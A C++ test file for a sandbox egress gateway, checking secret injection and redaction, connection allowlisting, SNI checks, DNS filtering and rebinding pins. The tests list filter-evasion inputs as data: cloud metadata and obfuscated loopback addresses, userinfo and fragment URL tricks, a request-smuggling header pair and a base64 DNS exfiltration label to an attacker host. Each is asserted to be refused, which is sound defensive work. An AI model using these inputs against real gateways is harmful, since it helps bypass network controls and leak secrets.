// The gateway end to end, in one process, on loopback only: a fake upstream resolver, an upstream TLS
// server with a test CA, and clients that bind 127.0.0.2 (the registered "sandbox" source).
#include "gateway_fixture.h"

using namespace egress_test;

TEST_F(EgressGateway, InterceptsInjectsAndRedacts) {  // E13, E17
  Tunnel t = interceptedTunnel();
  auto& tls = *t.tls;
  std::string req = "GET /v1/echo?x=1 HTTP/1.1\r\nHost: allowed.test:" + std::to_string(upstream_.port()) +
                    "\r\nAuthorization: Bearer " + kPlaceholder + "\r\n\r\n";
  asio::write(tls, asio::buffer(req));
  std::string resp = readAll(tls);
  EXPECT_NE(upstream_.lastRequest().find("Authorization: Bearer " + kValue), std::string::npos)
      << upstream_.lastRequest();
  EXPECT_NE(resp.find("HTTP/1.1 200"), std::string::npos) << resp;
  EXPECT_EQ(resp.find(kValue), std::string::npos) << resp;  // E17: never the value
  EXPECT_NE(resp.find("X-Echo-Auth: Bearer " + kPlaceholder), std::string::npos) << resp;
  EXPECT_NE(resp.find("Authorization: Bearer " + kPlaceholder), std::string::npos) << resp;
  std::string audit = auditText();
  EXPECT_NE(audit.find("\"secrets\":[\"API_KEY\"]"), std::string::npos) << audit;
  EXPECT_NE(audit.find("\"path\":\"/v1/echo\""), std::string::npos) << audit;
  EXPECT_EQ(audit.find(kValue), std::string::npos);
}

TEST_F(EgressGateway, PlaceholderToTheQueryIsBlocked) {  // E13
  Tunnel t = interceptedTunnel();
  auto& tls = *t.tls;
  std::string req = "GET /?k=" + kPlaceholder + " HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
  asio::write(tls, asio::buffer(req));
  std::string resp = readAll(tls);
  EXPECT_NE(resp.find("403"), std::string::npos) << resp;
  EXPECT_NE(auditText().find("placeholder of secret API_KEY"), std::string::npos);
}

TEST_F(EgressGateway, PlaceholderInTheBodyBlocksTheWholeRequest) {  // E13
  Tunnel t = interceptedTunnel();
  auto& tls = *t.tls;
  // The placeholder arrives in the body's second write, after bytes that are clean on their own.
  std::string body = "token=" + kPlaceholder;
  std::string req =
      "POST /body-blocked HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: " + std::to_string(body.size()) +
      "\r\n\r\n" + body.substr(0, 6);
  asio::write(tls, asio::buffer(req));
  std::this_thread::sleep_for(std::chrono::milliseconds(50));  // two reads on the gateway's side
  asio::write(tls, asio::buffer(body.substr(6)));
  std::string resp = readAll(tls);
  EXPECT_TRUE(resp.starts_with("HTTP/1.1 403")) << resp;
  EXPECT_NE(auditText().find("placeholder of secret API_KEY in the request body"), std::string::npos) << auditText();
  EXPECT_EQ(upstream_.lastRequest(), "");  // not even the head (with the injected value) went out
}

TEST_F(EgressGateway, ConnectDenials) {  // E1, E2, E3, E4, E6, E7, E12
  for (std::string target :
       {"169.254.169.254:80", "10.0.0.1:443", "127.0.0.1:443", "[::1]:443", "2130706433:443", "0177.0.0.1:443",
        "0x7f.1:443", "127.1:443", "0.0.0.0:443", "[::ffff:a9fe:a9fe]:80", "[64:ff9b::a9fe:a9fe]:80",
        "[fe80::1%25eth0]:80", "evil.test:443", "allowed.test.evil.test:443", "evilallowed.test:443",
        "private.test:443", "allowed.test@evil.test:443"}) {
    tcp::socket s = connectFromSandbox(gateway_->proxyPort());
    std::string reply = connectReply(s, target);
    EXPECT_FALSE(reply.starts_with("HTTP/1.1 200")) << target << " -> " << reply;
  }
  // The gateway's own port, even by an allowed-looking literal (E12).
  tcp::socket s = connectFromSandbox(gateway_->proxyPort());
  EXPECT_FALSE(connectReply(s, "127.0.0.1:" + std::to_string(gateway_->proxyPort())).starts_with("HTTP/1.1 200"));
  // Case and trailing dot are the same name (E7).
  tcp::socket ok = connectFromSandbox(gateway_->proxyPort());
  EXPECT_TRUE(connectReply(ok, "ALLOWED.test.:" + std::to_string(upstream_.port())).starts_with("HTTP/1.1 200"));
  // E6: the mixed answer connects to the public one only.
  tcp::socket mixed = connectFromSandbox(gateway_->proxyPort());
  EXPECT_TRUE(connectReply(mixed, "mixed.test:" + std::to_string(upstream_.port())).starts_with("HTTP/1.1 200"));
}

TEST_F(EgressGateway, SniMustMatchConnectHost) {  // E9
  resolver_.answers["other.test"] = {*parseIp("127.0.0.1")};
  tcp::socket s = connectFromSandbox(gateway_->proxyPort());
  ASSERT_TRUE(connectReply(s, "mixed.test:" + std::to_string(upstream_.port())).starts_with("HTTP/1.1 200"));
  asio::ssl::context ctx(asio::ssl::context::tls_client);
  asio::ssl::stream<tcp::socket&> tls(s, ctx);
  SSL_set_tlsext_host_name(tls.native_handle(), "allowed.test");
  boost::system::error_code ec;
  tls.handshake(asio::ssl::stream_base::client, ec);
  EXPECT_TRUE(ec);
  EXPECT_NE(auditText().find("sni-mismatch"), std::string::npos) << auditText();
}

TEST_F(EgressGateway, AbsoluteFormTricks) {  // E8
  for (std::string target :
       {"http://allowed.test@evil.test/", "http://evil.test#@allowed.test/", "http://evil.test%23@allowed.test/",
        "http://evil.test\\@allowed.test/", "http://169.254.169.254/latest/meta-data/", "http://2130706433/"}) {
    tcp::socket s = connectFromSandbox(gateway_->proxyPort());
    std::string req = "GET " + target + " HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
    asio::write(s, asio::buffer(req));
    std::string reply = readAll(s);
    EXPECT_TRUE(reply.starts_with("HTTP/1.1 4")) << target << " -> " << reply;
  }
}

TEST_F(EgressGateway, TransparentDecisions) {  // E10, E5
  uint16_t port = upstream_.port();
  // An allowed SNI to the vetted address passes through (no secret bound to mixed.test: not intercepted),
  // and the upstream's own certificate reaches the client.
  original_dst_ = tcp::endpoint(asio::ip::make_address("127.0.0.1"), port);
  {
    tcp::socket s = connectFromSandbox(gateway_->transparentPort());
    asio::ssl::context ctx(asio::ssl::context::tls_client);
    ctx.load_verify_file(upstream_.caFile());
    ctx.set_verify_mode(asio::ssl::verify_peer);
    asio::ssl::stream<tcp::socket&> tls(s, ctx);
    SSL_set_tlsext_host_name(tls.native_handle(), "mixed.test");
    boost::system::error_code ec;
    tls.handshake(asio::ssl::stream_base::client, ec);
    // The upstream's leaf names allowed.test, so the client's hostname check is not set here; the
    // handshake completing with the upstream's CA proves passthrough.
    EXPECT_FALSE(ec) << ec.message();
  }
  // A denied address with an allowed SNI: not a vetted address of the name.
  original_dst_ = tcp::endpoint(asio::ip::make_address("127.0.0.3"), port);
  {
    tcp::socket s = connectFromSandbox(gateway_->transparentPort());
    asio::ssl::context ctx(asio::ssl::context::tls_client);
    asio::ssl::stream<tcp::socket&> tls(s, ctx);
    SSL_set_tlsext_host_name(tls.native_handle(), "allowed.test");
    boost::system::error_code ec;
    tls.handshake(asio::ssl::stream_base::client, ec);
    EXPECT_TRUE(ec);
  }
  // No SNI, and garbage.
  original_dst_ = tcp::endpoint(asio::ip::make_address("127.0.0.1"), port);
  {
    tcp::socket s = connectFromSandbox(gateway_->transparentPort());
    asio::ssl::context ctx(asio::ssl::context::tls_client);
    asio::ssl::stream<tcp::socket&> tls(s, ctx);
    boost::system::error_code ec;
    tls.handshake(asio::ssl::stream_base::client, ec);
    EXPECT_TRUE(ec);
  }
  {
    tcp::socket s = connectFromSandbox(gateway_->transparentPort());
    asio::write(s, asio::buffer(std::string("\x01\x02garbage garbage garbage\r\n")));
    EXPECT_EQ(readAll(s), "");
  }
  std::string audit = auditText();
  EXPECT_NE(audit.find("destination-mismatch"), std::string::npos) << audit;
  EXPECT_NE(audit.find("unrecognised-protocol"), std::string::npos) << audit;
}

TEST_F(EgressGateway, TransparentFirstMessagesAreDecidedWithoutWaiting) {  // E10, E15
  original_dst_ = tcp::endpoint(asio::ip::make_address("127.0.0.1"), upstream_.port());
  // Two bytes that can start neither a ClientHello nor a method: refused at once, not at the timeout.
  {
    tcp::socket s = connectFromSandbox(gateway_->transparentPort());
    asio::write(s, asio::buffer(std::string("\x00\x01", 2)));
    EXPECT_EQ(readAll(s), "");
  }
  EXPECT_NE(auditText().find("neither a TLS ClientHello nor an HTTP request"), std::string::npos) << auditText();
  // A head the sandbox stops sending half-way (FIN): refused as soon as the FIN is seen.
  {
    tcp::socket s = connectFromSandbox(gateway_->transparentPort());
    asio::write(s, asio::buffer(std::string("GET / HTTP/1.1\r\nHost: allowed.test\r\n")));
    s.shutdown(tcp::socket::shutdown_send);
    EXPECT_TRUE(readAll(s).starts_with("HTTP/1.1 400")) << "no refusal";
  }
  EXPECT_NE(auditText().find("connection closed before the first message was complete"), std::string::npos)
      << auditText();
  // A malformed HTTP head on the transparent path is answered 400 and audited http-strict, like elsewhere.
  for (std::string head : {"GET / HTTP/1.1\r\nHost: allowed.test@evil.test\r\n\r\n",
                           "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 1\r\nTransfer-Encoding: "
                           "chunked\r\n\r\n0\r\n\r\n"}) {
    tcp::socket s = connectFromSandbox(gateway_->transparentPort());
    asio::write(s, asio::buffer(head));
    std::string answer = readAll(s);
    EXPECT_TRUE(answer.starts_with("HTTP/1.1 400")) << head << answer;
    EXPECT_NE(answer.find("X-Space-Egress: refused"), std::string::npos) << answer;
  }
  EXPECT_NE(auditText().find("\"rule\":\"http-strict\""), std::string::npos) << auditText();
  EXPECT_EQ(upstream_.lastRequest(), "");
}

TEST_F(EgressGateway, DnsAnswersOnlyAllowedNamesAndNeverForwardsTheRest) {  // E4, E6, E16
  asio::ip::udp::socket u(client_io_);
  u.open(asio::ip::udp::v4());
  u.bind({asio::ip::make_address("127.0.0.2"), 0});
  u.non_blocking(false);
  auto ask = [&](const std::vector<std::string>& labels, uint16_t qtype) {
    std::vector<uint8_t> m = {0xab, 0xcd, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
    for (const auto& l : labels) {
      m.push_back(uint8_t(l.size()));
      m.insert(m.end(), l.begin(), l.end());
    }
    m.insert(m.end(), {0, uint8_t(qtype >> 8), uint8_t(qtype), 0, 1});
    u.send_to(asio::buffer(m), asio::ip::udp::endpoint(asio::ip::make_address("127.0.0.1"), gateway_->dnsPort()));
    std::vector<uint8_t> out(512);
    asio::ip::udp::endpoint from;
    out.resize(u.receive_from(asio::buffer(out), from));
    return out;
  };
  auto a = ask({"Allowed", "test"}, dns::kA);
  ASSERT_GE(a.size(), 12u);
  EXPECT_EQ(a[3] & 0x0f, dns::kNoError);
  EXPECT_EQ(a[7], 1);
  EXPECT_EQ(std::vector<uint8_t>(a.end() - 4, a.end()), (std::vector<uint8_t>{127, 0, 0, 1}));
  auto exfil = ask({"c2VjcmV0", "attacker", "test"}, dns::kA);
  EXPECT_EQ(exfil[3] & 0x0f, dns::kNxDomain);
  auto priv = ask({"private", "test"}, dns::kA);
  EXPECT_EQ(priv[3] & 0x0f, dns::kNoError);
  EXPECT_EQ(priv[7], 0);  // E4: the private answer is withheld
  auto priv6 = ask({"private", "test"}, dns::kAAAA);
  EXPECT_EQ(priv6[7], 0);
  auto mixed = ask({"mixed", "test"}, dns::kA);
  EXPECT_EQ(mixed[7], 1);  // E6: only the public one
  auto ph = ask({kPlaceholder, "allowed", "test"}, dns::kA);
  EXPECT_EQ(ph[3] & 0x0f, dns::kNxDomain);
  for (const auto& n : resolver_.askedNames()) {
    EXPECT_EQ(n.find("attacker"), std::string::npos) << n;  // E16: nothing forwarded
    EXPECT_EQ(n.find(kPlaceholder), std::string::npos) << n;
  }
}

TEST_F(EgressGateway, UnknownSourcesAreRefused) {
  tcp::socket s(client_io_);
  s.open(tcp::v4());
  s.bind({asio::ip::make_address("127.0.0.5"), 0});
  s.connect({asio::ip::make_address("127.0.0.1"), gateway_->proxyPort()});
  asio::write(s, asio::buffer(std::string("CONNECT allowed.test:443 HTTP/1.1\r\nHost: x\r\n\r\n")));
  EXPECT_EQ(readAll(s), "");
  EXPECT_NE(auditText().find("unknown-source"), std::string::npos);
}

TEST(EgressControl, RegisterUpdateRemove) {
  Registry reg;
  auto audit = *Audit::open("");
  nlohmann::json sb = {{"id", "a"}, {"sources", {"10.200.0.4/30"}}};
  EXPECT_TRUE(handleControl(reg, *audit, {{"op", "register"}, {"sandbox", sb}})["ok"].get<bool>());
  sb["id"] = "b";
  EXPECT_FALSE(handleControl(reg, *audit, {{"op", "register"}, {"sandbox", sb}})["ok"].get<bool>());  // overlap
  nlohmann::json bad = {{"id", "c"}, {"sources", {"10.200.0.8/30"}}, {"test_external_subnets", {"10.0.0.0/8"}}};
  EXPECT_FALSE(handleControl(reg, *audit, {{"op", "register"}, {"sandbox", bad}})["ok"].get<bool>());
  auto upd = handleControl(reg, *audit, {{"op", "update"}, {"id", "a"}, {"policy", {{"mode", "allow-all-public"}}}});
  EXPECT_TRUE(upd["ok"].get<bool>()) << upd.dump();
  EXPECT_EQ(reg.byId("a")->policy.mode, Mode::kAllowAllPublic);
  EXPECT_EQ(reg.bySource(*parseIp("10.200.0.6"))->id, "a");
  EXPECT_FALSE(reg.bySource(*parseIp("10.200.0.8")));
  EXPECT_TRUE(handleControl(reg, *audit, {{"op", "remove"}, {"id", "a"}})["ok"].get<bool>());
  EXPECT_FALSE(reg.byId("a"));
}

TEST(EgressResolver, PinHoldsDespiteTtlZero) {  // E5
  FakeResolver r;
  r.answers["rebind.test"] = {*parseIp("93.184.216.34")};
  NameCache cache(r);
  auto now = NameCache::Clock::now();
  cache.setClockForTest([&] { return now; });
  std::vector<IpAddress> first, second;
  cache.lookup("rebind.test", [&](Result<NameCache::Pinned> p) { first = p->addresses; });
  r.answers["rebind.test"] = {*parseIp("127.0.0.1")};  // the attacker's DNS flips
  now += std::chrono::seconds(10);
  cache.lookup("rebind.test", [&](Result<NameCache::Pinned> p) { second = p->addresses; });
  EXPECT_EQ(first, second);
  EXPECT_EQ(r.askedNames().size(), 1u);
  now += NameCache::kMinPin;
  cache.lookup("rebind.test", [&](Result<NameCache::Pinned> p) { second = p->addresses; });
  EXPECT_EQ(second[0].str(), "127.0.0.1");  // a new resolution, classified again by its users
}
